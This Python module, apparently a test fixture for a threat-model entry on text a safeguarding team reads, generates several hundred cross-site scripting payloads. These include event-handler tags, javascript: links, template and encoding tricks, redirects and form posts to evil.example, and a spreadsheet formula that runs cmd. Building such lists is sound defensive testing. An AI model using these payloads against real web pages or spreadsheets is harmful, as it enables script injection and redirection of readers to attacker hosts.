"""Text that wants to be a script: what somebody may type where the safeguarding team will read it (threat T15)."""

from itertools import product

MARK = "window.__ran=1"
TAGS = ("img src=x", "svg", "body", "iframe", "video src=x", "audio src=x", "details open", "input autofocus", "object data=x",
        "marquee", "a href=x id=x tabindex=1", "style", "math", "button autofocus", "select autofocus", "textarea autofocus",
        "embed src=x", "frameset", "track src=x", "form", "keygen autofocus", "isindex type=image src=1")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onstart", "onbegin", "onpageshow", "onanimationstart")
BREAKS = ("", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "</script>", "</option></select>", "{{7*7}}", "\x00")


def payloads() -> list[str]:
    """More than three hundred, the same each time."""
    found = [f"{before}<{tag} {event}={MARK}>" for (tag, event), before in
             ((pair, BREAKS[number % len(BREAKS)]) for number, pair in enumerate(product(TAGS, EVENTS)))]
    found += [f"{before}<script>{MARK}</script>" for before in BREAKS]
    found += [f'{before}<a href="{scheme}:{MARK}">x</a>' for before in BREAKS
              for scheme in ("javascript", "JaVaScRiPt", "java\tscript", "vbscript", "data:text/html,<script>")]
    found += [f'{quote} {event}={MARK} x={quote}' for quote in ('"', "'", "`", "") for event in EVENTS]
    found += [f"<svg><animate {event}={MARK} attributeName=x dur=1s>" for event in EVENTS]
    found += [f"&lt;script&gt;{MARK}&lt;/script&gt;", f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e", f"${{{MARK}}}",
              f"<iframe srcdoc='<script>parent.{MARK}</script>'>", "<base href=//evil.example/>",
              "<link rel=import href=//e.example>",
              "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example><button autofocus>x",
              "=cmd|' /C calc'!A0", "\u202e<img src=x onerror=window.__ran=1>"]
    found += [f"<{tag}/{event}={MARK}//" for tag, event in product(("img/src=x", "svg", "p", "x"), EVENTS)]
    return list(dict.fromkeys(found))
